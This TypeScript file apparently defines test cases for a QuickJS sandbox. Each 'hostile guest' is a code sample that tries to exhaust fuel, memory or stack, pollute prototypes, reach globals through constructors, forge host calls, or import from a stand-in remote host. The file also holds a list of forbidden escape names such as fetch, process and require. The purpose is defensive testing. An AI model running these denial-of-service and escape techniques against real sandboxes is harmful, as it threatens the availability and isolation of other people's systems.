import type { Code } from '../../../core/index.ts';
import type { CapabilityDefinition } from '../../../workers/api.ts';
import { type AttackTexts, attacks } from '../../texts/en/breakout.ts';

/** A hostile guest: a capability whose source tries to leave the sandbox, or to take it down. */
export interface Escape extends HostileGuest {
  readonly title: string;
  /** The attempt, and the reason why it does not work. */
  readonly caption: string;
}

interface HostileGuest {
  /** The last part of its capability's name, and the key of its texts. */
  readonly slug: keyof AttackTexts['guests'];
  /** The code that stops it. Without a code the guest may run to its end, and must have reached no forbidden name. */
  readonly stops?: Code;
  readonly source: string;
  readonly limits?: CapabilityDefinition['limits'];
}

/** Names that would mean a way out: of the page, of a worker, of Node, or of QuickJS's own library. */
const WAYS_OUT = [
  'fetch',
  'XMLHttpRequest',
  'WebSocket',
  'EventSource',
  'importScripts',
  'Worker',
  'WebAssembly',
  'SharedArrayBuffer',
  'Atomics',
  'postMessage',
  'indexedDB',
  'caches',
  'navigator',
  'document',
  'window',
  'self',
  'process',
  'require',
  'std',
  'os',
  'performance',
  'setTimeout',
];

const SEARCH = `const ways = ${JSON.stringify(WAYS_OUT)};
const reachable = (from) => ways.filter((name) => {
  try { return from?.[name] !== undefined; } catch { return false; }
});`;

const GUESTS: readonly HostileGuest[] = [
  {
    slug: 'loop',
    stops: 'fuel_exhausted',
    source: 'export default () => {\n  while (true);\n};',
  },
  {
    slug: 'swallow',
    stops: 'fuel_exhausted',
    source: `export default () => {
  for (;;) {
    try {
      while (true);
    } catch {
      continue;
    } finally {
      continue;
    }
  }
};`,
  },
  {
    slug: 'native',
    stops: 'hang_killed',
    source: 'export default () =>\n  Array.prototype.indexOf.call({ length: 2 ** 53 - 1 }, 1);',
    limits: { deadlineMs: 400 },
  },
  {
    slug: 'regex',
    stops: 'fuel_exhausted',
    source: "export default () =>\n  /^(a+)+$/.test('a'.repeat(40) + 'b');",
  },
  {
    slug: 'memory',
    stops: 'memory_exceeded',
    source: 'export default () => {\n  const all = [];\n  for (;;) all.push(new Uint8Array(1 << 20));\n};',
  },
  {
    slug: 'stack',
    stops: 'stack_exceeded',
    source: 'export default () => {\n  const fall = () => fall() + 1;\n  return fall();\n};',
  },
  {
    slug: 'promises',
    stops: 'jobs_exceeded',
    source: `export default () => {
  const again = () => Promise.resolve().then(again);
  return again();
};`,
  },
  {
    slug: 'output',
    stops: 'bytes_out_exceeded',
    source: "export default () => ({ reached: [], saw: 'x'.repeat(1 << 20) });",
  },
  {
    slug: 'console',
    stops: 'console_exceeded',
    source: `export default () => {
  for (let line = 0; line < 1000; line += 1) console.log('look here '.repeat(100));
  return { reached: [] };
};`,
  },
  {
    slug: 'globals',
    source: `${SEARCH}
export default () => ({
  reached: reachable(globalThis),
  saw: Object.getOwnPropertyNames(globalThis).join(' '),
});`,
  },
  {
    slug: 'import',
    source: `export default async () => {
  const reached = [];
  for (const name of ['https://collect.example/x.js', 'std', 'os', 'data:text/javascript,0']) {
    try {
      await import(name);
      reached.push(name);
    } catch (error) {
      console.log(name, '→', error.message);
    }
  }
  return { reached };
};`,
  },
  {
    slug: 'constructor',
    source: `${SEARCH}
export default (args, powers) => {
  const found = [args, [], () => {}, async () => {}, Symbol.iterator, console.log];
  const reached = found.flatMap((thing) => {
    try {
      return reachable(thing.constructor.constructor('return globalThis')());
    } catch {
      return [];
    }
  });
  return { reached: [...reached, ...reachable(Object.getPrototypeOf(powers))] };
};`,
  },
  {
    slug: 'pollute',
    source: `export default () => {
  Object.prototype.polluted = true;
  Array.prototype.toJSON = () => 'stolen';
  JSON.parse = JSON.stringify = () => '{"reached":["everything"]}';
  Promise.prototype.then = () => 'stolen';
  globalThis.kept = 'a message to the next call';
  return { __proto__: null, reached: { __proto__: null, length: 0, toJSON: () => [] } };
};`,
  },
  {
    slug: 'ticket',
    source: `export default async (args, powers) => {
  const reached = Object.keys(powers);
  const tries = {
    'a new power': () => { powers.fetch = () => 'mine'; return powers.fetch(); },
    'an undeclared one': () => powers.clock(),
    'the host’s door': () => globalThis.resume('[1,1,"true"]'),
    'the ticket table': () => globalThis.pending[1].resolve('mine'),
  };
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt();
      reached.push(name);
    } catch (error) {
      console.log(name, '→', error.message);
    }
  }
  return { reached };
};`,
  },
  {
    slug: 'proxy',
    stops: 'fuel_exhausted',
    source: `export default () =>
  new Proxy({}, { get() { while (true); }, ownKeys() { while (true); } });`,
  },
  {
    slug: 'thenable',
    stops: 'jobs_exceeded',
    source: 'export default () => {\n  const circle = { then(resolve) { resolve(circle); } };\n  return circle;\n};',
  },
  {
    slug: 'proto',
    stops: 'result_schema',
    source: `export default () =>
  JSON.parse('{"reached":[],"__proto__":{"isAdmin":true}}');`,
  },
  {
    slug: 'deep',
    stops: 'stack_exceeded',
    source: "export default () =>\n  JSON.parse('['.repeat(5e5) + ']'.repeat(5e5));",
  },
  {
    slug: 'clock',
    source: `export default () => {
  const before = Date.now();
  for (let turn = 0; turn < 100000; turn += 1);
  const reached = Date.now() === before ? [] : ['a clock that moves'];
  if (new Date().getTimezoneOffset() !== 0) reached.push('the time zone');
  return { reached, saw: before + ', ' + Math.random() };
};`,
  },
];

export const ESCAPES: readonly Escape[] = GUESTS.map((guest) => ({
  ...guest,
  get title() {
    return attacks().guests[guest.slug].title;
  },
  get caption() {
    return attacks().guests[guest.slug].caption;
  },
}));
